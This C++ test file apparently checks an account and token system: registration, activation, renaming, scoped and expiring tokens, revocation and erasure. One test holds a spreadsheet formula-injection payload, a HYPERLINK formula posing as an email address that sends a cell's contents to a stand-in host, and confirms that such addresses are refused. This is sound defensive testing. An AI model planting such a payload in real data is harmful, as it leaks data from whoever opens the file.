#include "support/scenario.hpp"

using namespace orglog;
using namespace orglog::test;

namespace {

const Who platform = Who::platform_operator();

}  // namespace

TEST_CASE("D9: the operator registers an account, which is active at once") {
  Scenario scenario;
  scenario.when(platform, RegisterAccount{email("ann"), "Ann"});
  scenario.then({AccountRegistered{scenario.made<AccountId>("account"), email("ann"), "Ann",
                                   AccountState::active}});
  CHECK(scenario.state().account(*Email::parse("ANN@EXAMPLE.COM")) != nullptr);
  scenario.when(platform, RegisterAccount{*Email::parse("Ann@example.com"), "Ann"});
  scenario.then_rejected(Reason::email_taken);
}

TEST_CASE("F-B13: an address that a spreadsheet would run gets no account, whoever names it") {
  const Email odd = *Email::parse("=HYPERLINK(\"//x\"&B2)@acme.example");
  Scenario scenario;
  scenario.org("acme", "ann").app("web", "acme");
  const auto refused = [&](const Who& who, const Command& command) {
    scenario.when(who, command).then_rejected(Reason::malformed);
  };
  refused(platform, RegisterAccount{odd, ""});
  refused(platform, IssueToken{odd, sha256("secret"), ""});
  refused(platform, ProvisionOrg{org_name("evil"), odd});
  refused("ann", AddMember{org_name("acme"), odd, Role::member});
  refused("ann", InviteMember{org_name("acme"), odd, Role::member});
  refused("ann", AddCollaborator{app_name("web"), odd});
}

TEST_CASE("D9: an invited account is activated by its owner or the operator, once") {
  Scenario()
      .person("ann", AccountState::invited)
      .when("ann", ActivateAccount{email("ann")})
      .then({AccountActivated{account("ann")}});
  Scenario scenario;
  scenario.person("ann", AccountState::invited).person("bob");
  scenario.when("bob", ActivateAccount{email("ann")}).then_rejected(Reason::operator_only);
  scenario.when(platform, ActivateAccount{email("ann")}).then({AccountActivated{account("ann")}});
  scenario.when(platform, ActivateAccount{email("ann")}).then_nothing();
  scenario.when(platform, ActivateAccount{email("new")}).then_rejected(Reason::account_not_found);
}

TEST_CASE("a person changes his own name, and the operator anybody's") {
  Scenario scenario;
  scenario.when(platform, RegisterAccount{email("ann"), "Ann"});
  const auto ann = scenario.made<AccountId>("account");
  scenario.when(platform, RenameAccount{email("ann"), "Ann B."});
  scenario.then({AccountRenamed{ann, "Ann B.", "Ann"}});
  CHECK(scenario.state().account(email("ann"))->name == "Ann B.");
  scenario.when(platform, RenameAccount{email("ann"), "Ann B."}).then_nothing();
  scenario.when(platform, RenameAccount{email("new"), "New"})
      .then_rejected(Reason::account_not_found);
  scenario.person("bob");
  scenario.when("bob", RenameAccount{email("bob"), "Bob"});
  scenario.then({AccountRenamed{account("bob"), "Bob", ""}});
  scenario.when("bob", RenameAccount{email("ann"), "Bob"}).then_rejected(Reason::operator_only);
  scenario.when("bob", RenameAccount{email("nobody"), ""}).then_rejected(Reason::operator_only);
}

TEST_CASE("D10: to activate a stranger's address says the same whether it exists or not") {
  Scenario scenario;
  scenario.person("ann").person("bob");
  scenario.when("bob", ActivateAccount{email("ann")}).then_rejected(Reason::operator_only);
  scenario.when("bob", ActivateAccount{email("nobody")}).then_rejected(Reason::operator_only);
}

TEST_CASE("a person issues tokens for himself and finds the account by them") {
  Scenario scenario;
  scenario.person("ann");
  scenario.when("ann", IssueToken{email("ann"), sha256("secret"), "laptop"});
  const auto token = scenario.made<TokenId>("token");
  scenario.then({TokenIssued{token, account("ann"), sha256("secret"), "laptop"}});
  REQUIRE(scenario.state().account_of_token(sha256("secret")) != nullptr);
  CHECK(scenario.state().account_of_token(sha256("secret"))->id == account("ann"));
  CHECK(scenario.state().account_of_token(token)->id == account("ann"));
  CHECK(scenario.state().account_of_token(sha256("other")) == nullptr);
  scenario.when("ann", IssueToken{email("ann"), sha256("secret"), "again"});
  scenario.then_rejected(Reason::token_known);
}

TEST_CASE("a token may be good for less than everything, and for a time") {
  Scenario scenario;
  scenario.person("ann").person("bob");
  const Timestamp until = start_of_scenario() + std::chrono::days{30};
  const Scopes scopes = Scopes(Scope::read) | Scope::audit;
  scenario.when("ann", IssueToken{email("ann"), sha256("secret"), "report", scopes, until});
  const auto token = scenario.made<TokenId>("token");
  scenario.then({TokenIssued{token, account("ann"), sha256("secret"), "report", scopes, until}});
  const State& state = scenario.state();
  const auto instant = std::chrono::microseconds{1};
  REQUIRE(state.token_in_force(token, account("ann"), until - instant) != nullptr);
  CHECK(state.token_in_force(token, account("ann"), until - instant)->scopes == scopes);
  CHECK(state.token_in_force(token, account("ann"), until) == nullptr);
  CHECK(state.token_in_force(token, account("bob"), until - instant) == nullptr);
}

TEST_CASE("a token that has expired before it is issued is refused") {
  Scenario scenario;
  scenario.person("ann");
  IssueToken issue{email("ann"), sha256("secret"), "", {}, start_of_scenario()};
  scenario.when("ann", issue).then_rejected(Reason::malformed);
}

TEST_CASE("D9: the operator's token registers or activates the account in the same command") {
  Scenario scenario;
  scenario.when(platform, IssueToken{email("new"), sha256("one"), ""});
  const auto made = scenario.made<AccountId>("account");
  scenario.then(
      {AccountRegistered{made, email("new"), "", AccountState::active},
       TokenIssued{
           scenario.made<TokenId>("token"), made, sha256("one"), "", {}, {}, TokenMaking::token}});
  scenario.person("ivy", AccountState::invited);
  scenario.when(platform, IssueToken{email("ivy"), sha256("two"), ""});
  scenario.then({AccountActivated{account("ivy")}, TokenIssued{scenario.made<TokenId>("token"),
                                                               account("ivy"),
                                                               sha256("two"),
                                                               "",
                                                               {},
                                                               {},
                                                               TokenMaking::token}});
}

TEST_CASE("a revoked token is forgotten") {
  Scenario scenario;
  scenario.person("ann").given("ann", IssueToken{email("ann"), sha256("secret"), ""});
  const auto token = scenario.made<TokenId>("token");
  scenario.when("ann", RevokeToken{token}).then({TokenRevoked{token, account("ann")}});
  CHECK(scenario.state().account_of_token(sha256("secret")) == nullptr);
  scenario.when("ann", RevokeToken{token}).then_rejected(Reason::token_not_found);
  scenario.given("ann", IssueToken{email("ann"), sha256("secret"), "the same secret again"});
}

TEST_CASE("D10: another's token is as if it did not exist, except for the operator") {
  Scenario scenario;
  scenario.person("bob").person("ann");
  scenario.given("ann", IssueToken{email("ann"), sha256("secret"), ""});
  const auto token = scenario.made<TokenId>("token");
  scenario.when("bob", RevokeToken{token}).then_rejected(Reason::token_not_found);
  scenario.when(platform, RevokeToken{token}).then({TokenRevoked{token, account("ann")}});
}

TEST_CASE("an account has a bounded number of tokens") {
  Scenario scenario;
  scenario.person("ann");
  for (std::size_t count = 0; count < limits::tokens_per_account; ++count) {
    scenario.given("ann", IssueToken{email("ann"), sha256(std::to_string(count)), ""});
  }
  scenario.when("ann", IssueToken{email("ann"), sha256("one more"), ""});
  scenario.then_rejected(Reason::token_limit);
}

TEST_CASE("an erased account leaves its orgs, apps and offers, and its address is free again") {
  Scenario scenario;
  scenario.org("acme", "ann").member("acme", "bob").app("web", "acme").joined("web", "bob");
  scenario.personal_app("blog", "ann").collaborator("blog", "bob");
  scenario.org("beta", "ann").given("ann", InviteMember{org_name("beta"), email("bob"), {}});
  scenario.given("ann", TransferApp{app_name("blog"), to_person("bob")});
  const App& blog = *scenario.state().app(app_name("blog"));
  const TransferId transfer = blog.transfer.id;
  const Org& beta = *scenario.state().org(org_name("beta"));
  const InvitationId invitation = beta.invitations[0].id;
  const AccountId bob = account("bob");
  scenario.when(platform, EraseAccount{email("bob")});
  scenario.then(
      {AppLeft{app("web"), owned_by_org("acme"), bob, Cause::removed_from_org},
       MemberRemoved{org("acme"), bob, Role::member, Cause::removed_from_org},
       InvitationRevoked{org("beta"), invitation, bob},
       TransferCancelled{transfer, app("blog"), account("ann"), bob},
       CollaboratorRemoved{app("blog"), owned_by("ann"), bob, Permissions::work(), Cause::removed},
       AccountErased{bob}});
  const Account& erased = *scenario.state().account(bob);
  CHECK(erased.email.text() == "erased account " + to_string(bob).substr(0, 8));
  CHECK(erased.state == AccountState::erased);
  CHECK(erased.tokens.empty());
  CHECK(scenario.state().account(email("bob")) == nullptr);
  scenario.when(platform, EraseAccount{email("bob")}).then_rejected(Reason::account_not_found);
  scenario.when(platform, RegisterAccount{email("bob"), "Another"});
  CHECK(scenario.state().account(email("bob"))->id != bob);
}

TEST_CASE("O2: nobody is erased who is an org's last admin or still owns apps") {
  Scenario scenario;
  scenario.org("acme", "ann").personal_app("blog", "bob");
  scenario.when(platform, EraseAccount{email("ann")}).then_rejected(Reason::last_admin);
  scenario.when(platform, EraseAccount{email("bob")}).then_rejected(Reason::account_owns_apps);
  scenario.admin("acme", "cal").when(platform, EraseAccount{email("ann")});
  CHECK(scenario.decision().has_value());
}

TEST_CASE("a token of an erased account opens nothing") {
  Scenario scenario;
  scenario.person("ann").given("ann", IssueToken{email("ann"), sha256("secret"), ""});
  CHECK(scenario.state().account_of_token(sha256("secret")) != nullptr);
  scenario.given(platform, EraseAccount{email("ann")});
  CHECK(scenario.state().account_of_token(sha256("secret")) == nullptr);
}
